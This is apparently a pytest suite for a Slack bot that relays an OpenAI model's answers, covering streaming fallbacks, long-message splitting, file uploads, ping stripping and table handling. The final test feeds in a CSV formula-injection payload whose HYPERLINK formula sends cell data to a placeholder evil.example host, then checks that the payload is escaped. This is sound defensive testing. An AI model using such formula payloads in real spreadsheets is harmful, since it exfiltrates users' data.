"""What reaches the thread: fallback streaming, long answers, files (cited or not), images,
Slack Connect file stubs."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot import wording
from tests.bot_harness import BotUnderTest, running_bot
from tests.fakes.scripted_model import CodeRun, GeneratedFile, ScriptedTurn, tiny_png

CSV = b"region,revenue\nnorth,10\nsouth,20\n"


@pytest.fixture
async def bot(tmp_path: Path):
    async with running_bot(tmp_path) as running:
        yield running


def answer_texts(bot: BotUnderTest, ts: str, channel: str = "C0GENERAL") -> list[str]:
    return [m.text_content() for m in bot.slack.bot_messages(channel, ts) if not m.files]


async def test_without_native_streaming_the_answer_arrives_through_updates(
    bot: BotUnderTest,
) -> None:
    bot.slack.faults.disable_streaming()
    text = "First part of the answer. " * 20 + "Second part."
    bot.openai.model.enqueue(ScriptedTurn(text=text, text_deltas=40, delta_delay=0.06))
    sent = await bot.mention("explain")
    turn = await bot.finished(sent.ts)
    assert turn.status == "done"
    [message] = bot.slack.bot_messages("C0GENERAL", sent.ts)
    assert message.text_content() == text
    assert not message.is_stream
    times = [edit.time for edit in message.edits]
    assert len(times) >= 1  # it grew in place
    gaps = [b - a for a, b in zip(times, times[1:-1], strict=False)]  # the last is the final
    assert all(gap >= 0.95 for gap in gaps), gaps  # interim updates at most once a second


async def test_a_stream_that_expires_continues_in_a_new_message_without_losing_text(
    bot: BotUnderTest,
) -> None:
    bot.slack.stream_idle_timeout = 0.3  # appends come a second apart: the stream expires
    text = "Opening words. " + "More analysis follows here. " * 10
    bot.openai.model.enqueue(ScriptedTurn(text=text, text_deltas=4, delta_delay=0.5))
    sent = await bot.mention("slow answer")
    turn = await bot.finished(sent.ts)
    assert turn.status == "done"
    texts = answer_texts(bot, sent.ts)
    assert len(texts) >= 2  # what the stream showed stays; the rest is a new message
    assert "".join(t.split("\n")[0] for t in texts).replace(" ", "") == text.replace(" ", "")
    errors = [c.error for c in bot.slack.calls if c.method.startswith("chat.") and not c.ok]
    assert "message_not_in_streaming_state" in errors
    assert not [c for c in bot.slack.calls if c.error == "streaming_state_conflict"]


async def test_a_30000_character_answer_arrives_complete_across_messages(
    bot: BotUnderTest,
) -> None:
    paragraphs = [
        f"Paragraph {i}: " + "the numbers tell a consistent story. " * 8 for i in range(100)
    ]
    text = "\n\n".join(paragraphs)
    assert len(text) > 30_000
    bot.openai.model.enqueue(ScriptedTurn(text=text, text_deltas=300))
    sent = await bot.mention("write a long report")
    turn = await bot.finished(sent.ts)
    assert turn.status == "done"
    texts = answer_texts(bot, sent.ts)
    assert len(texts) >= 3
    assert all(len(t) <= 12_000 for t in texts)
    for paragraph in paragraphs:
        assert sum(paragraph in t for t in texts) == 1, paragraph[:20]
    assert texts[1].startswith("_(continued)_")


async def test_every_file_the_model_made_is_posted_once(bot: BotUnderTest) -> None:
    chart, table = tiny_png(bars=(5, 9, 2)), b"name,total\na,1\nb,2\n"
    bot.openai.model.enqueue(
        ScriptedTurn(
            text="See [the chart](sandbox:/mnt/data/totals.png).",
            runs=(
                CodeRun(
                    "plot and save",
                    files=(
                        GeneratedFile("totals.png", chart),
                        GeneratedFile(
                            "totals.csv", table, cite=False
                        ),  # written but never mentioned
                    ),
                ),
            ),
            duplicate_image_citation=True,  # the same chart cited again as cfile_….png
        )
    )
    sent = await bot.mention("totals please")
    assert (await bot.finished(sent.ts)).status == "done"
    uploaded = {f.name: f.content for f in bot.slack.uploaded_files}
    assert uploaded == {"totals.png": chart, "totals.csv": table}
    shares = [m for m in bot.slack.bot_messages("C0GENERAL", sent.ts) if m.files]
    assert len(shares) == 1  # one message for the burst of files
    [text] = answer_texts(bot, sent.ts)
    assert "sandbox:" not in text
    assert "totals.png" in text


def two_files_turn() -> ScriptedTurn:
    return ScriptedTurn(
        text=(
            "See [the chart](sandbox:/mnt/data/totals.png) "
            "and [the data](sandbox:/mnt/data/totals.csv)."
        ),
        runs=(
            CodeRun(
                "plot and save",
                files=(
                    GeneratedFile("totals.png", tiny_png(bars=(5, 9, 2))),
                    GeneratedFile("totals.csv", b"name,total\na,1\nb,2\n"),
                ),
            ),
        ),
    )


async def test_an_output_that_cannot_be_fetched_is_named_and_the_rest_posted(
    bot: BotUnderTest,
) -> None:
    bot.openai.model.enqueue(two_files_turn())
    bot.openai.break_download("totals.csv")  # 500 every time, past the SDK's retries
    sent = await bot.mention("totals please")
    turn = await bot.finished(sent.ts)
    assert turn.status == "done", turn.error_code
    assert [f.name for f in bot.slack.uploaded_files] == ["totals.png"]
    texts = answer_texts(bot, sent.ts)
    assert any(wording.FILES_MISSING.format(names="`totals.csv`") in t for t in texts)
    answer = next(t for t in texts if "See " in t)
    assert "sandbox:" not in answer
    assert "the data _(file not available)_" in answer


async def test_a_file_slack_refuses_is_named_and_the_answer_stands(bot: BotUnderTest) -> None:
    bot.openai.model.enqueue(two_files_turn())
    bot.slack.faults.error("files.completeUploadExternal", "fatal_error")
    sent = await bot.mention("totals please")
    turn = await bot.finished(sent.ts)
    assert turn.status == "done", turn.error_code
    texts = answer_texts(bot, sent.ts)
    [note] = [t for t in texts if t.startswith(wording.FILES_MISSING.split("{names}")[0])]
    assert "`totals.png`" in note
    assert "`totals.csv`" in note
    assert not any("fatal_error" in t for t in texts)


async def test_images_are_sent_as_image_inputs(bot: BotUnderTest) -> None:
    photo = bot.slack.add_file("whiteboard.png", tiny_png(), filetype="png", mimetype="image/png")
    bot.openai.model.enqueue(ScriptedTurn(text="The whiteboard shows a funnel."))
    sent = await bot.mention("what is on this?", files=[photo])
    assert (await bot.finished(sent.ts)).status == "done"
    request = bot.openai.requests_to("POST", "/responses")[-1].json
    content = request["input"][0]["content"]
    [image] = [part for part in content if part["type"] == "input_image"]
    assert image["file_id"] in bot.openai.files
    assert request["tool_choice"] == "auto"  # an image alone is not a data file
    container = bot.openai.containers[request["tools"][0]["container"]]
    assert container.files == {} or all(f.source != "user" for f in container.files.values())


async def test_slack_connect_file_stubs_are_resolved_with_files_info(bot: BotUnderTest) -> None:
    csv = bot.slack.add_file("shared.csv", CSV, filetype="csv")
    bot.openai.model.enqueue(ScriptedTurn(text="North is smaller."))
    sent = bot.slack.post_user_message(
        "C0GENERAL", "U0ALICE", "compare", files=[csv], mention_bot=True, stub_files=True
    )
    assert sent.app_mention_event is not None
    assert "url_private_download" not in sent.app_mention_event["event"]["files"][0]
    assert (await bot.send(sent.app_mention_event)).status == 200
    assert (await bot.finished(sent.ts)).status == "done"
    assert [c.args["file"] for c in bot.slack.calls_to("files.info")] == [csv["id"]]
    [upload] = bot.openai.files.values()
    assert upload.size == len(CSV)


async def test_model_output_can_never_ping(bot: BotUnderTest) -> None:
    bot.openai.model.enqueue(ScriptedTurn(text="Attention <!channel> and <!here>, ask <@U0BOB>!"))
    sent = await bot.mention("say hi")
    assert (await bot.finished(sent.ts)).status == "done"
    [text] = answer_texts(bot, sent.ts)
    assert "<!channel>" not in text
    assert "<!here>" not in text
    assert "<@U0BOB>" not in text


PINGING_CODE = "import pandas as pd\nprint('<!channel> totals are in @here')\nsave('<@U0BOB>.csv')"
PINGING_LOGS = "Done <!here> — tell @everyone and <!subteam^S1|@team>"


@pytest.mark.parametrize("native", [True, False], ids=["stream", "chat.update"])
async def test_code_and_logs_shown_as_steps_never_ping(tmp_path: Path, native: bool) -> None:
    async with running_bot(tmp_path) as bot:
        if not native:
            bot.slack.faults.disable_streaming()
        bot.openai.model.enqueue(
            ScriptedTurn(
                text="All <!channel> good.",
                runs=(CodeRun(PINGING_CODE, logs=PINGING_LOGS, error=True), CodeRun("1 + 1")),
            )
        )
        sent = await bot.mention("summarise")
        assert (await bot.finished(sent.ts)).status == "done"
        shown = " ".join(str(c.args) for c in bot.slack.calls)
        assert "totals are in" in shown  # the step really was shown
        assert bot.slack.pings() == []


def markdown_table(rows: int) -> str:
    lines = ["| rank | company | revenue |", "|---:|---|---:|"]
    lines += [f"| {i} | Company {i} | ${1000 - i:,} |" for i in range(1, rows + 1)]
    return "\n".join(lines) + "\n"


async def test_small_tables_become_table_blocks(bot: BotUnderTest) -> None:
    text = "Here are the leaders:\n\n" + markdown_table(5) + "\nNorthwind leads.\n"
    bot.openai.model.enqueue(ScriptedTurn(text=text, text_deltas=25))
    sent = await bot.mention("leaders?")
    assert (await bot.finished(sent.ts)).status == "done"
    [answer] = [m for m in bot.slack.bot_messages("C0GENERAL", sent.ts) if m.is_stream]
    tables = [
        b
        for c in answer.stream.chunks
        if c["type"] == "blocks"
        for b in c["blocks"]
        if b["type"] == "table"
    ]
    assert len(tables) == 1
    assert len(tables[0]["rows"]) == 6  # header + 5
    assert tables[0]["rows"][1][1]["text"] == "Company 1"
    assert "| rank |" not in answer.stream.markdown
    assert answer.stream.markdown.index("leaders") < answer.stream.markdown.index("Northwind")


async def test_long_answer_with_a_150_row_table_arrives_complete(bot: BotUnderTest) -> None:
    paragraphs = [
        f"Section {i}: " + "the figures are consistent across regions. " * 9 for i in range(70)
    ]
    text = (
        "\n\n".join(paragraphs[:35])
        + "\n\n"
        + markdown_table(150)
        + "\n"
        + "\n\n".join(paragraphs[35:])
    )
    assert len(text) > 30_000
    bot.openai.model.enqueue(ScriptedTurn(text=text, text_deltas=400))
    sent = await bot.mention("full report")
    assert (await bot.finished(sent.ts)).status == "done"
    texts = [m.text_content() for m in bot.slack.bot_messages("C0GENERAL", sent.ts) if not m.files]
    for paragraph in paragraphs:
        assert sum(paragraph in t for t in texts) == 1
    assert all(
        len(m.stream.markdown) <= 12_000
        for m in bot.slack.bot_messages("C0GENERAL", sent.ts)
        if m.is_stream
    )
    [table_file] = [f for f in bot.slack.uploaded_files if f.name.endswith(".csv")]
    rows = table_file.content.decode().splitlines()
    assert len(rows) == 151
    assert rows[1] == "1,Company 1,$999"
    assert any("150 rows" in t and table_file.name in t for t in texts)


async def test_a_large_table_attached_as_csv_carries_no_spreadsheet_formulas(
    bot: BotUnderTest,
) -> None:
    rows = ["| name | change | link |", "|---|---:|---|"]
    rows += [f"| row {i} | -{i}.5 | plain |" for i in range(120)]
    rows += ['| =HYPERLINK("http://evil.example/?d="&A1,"click") | @SUM(A1:A9) | +cmd |']
    bot.openai.model.enqueue(ScriptedTurn(text="\n".join(rows) + "\n"))
    sent = await bot.mention("the whole table")
    assert (await bot.finished(sent.ts)).status == "done"
    [table_file] = [f for f in bot.slack.uploaded_files if f.name.endswith(".csv")]
    lines = table_file.content.decode().splitlines()
    assert lines[1] == "row 0,-0.5,plain"  # negative numbers stay numbers
    assert (
        lines[-1] == '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",\'@SUM(A1:A9),\'+cmd'
    )
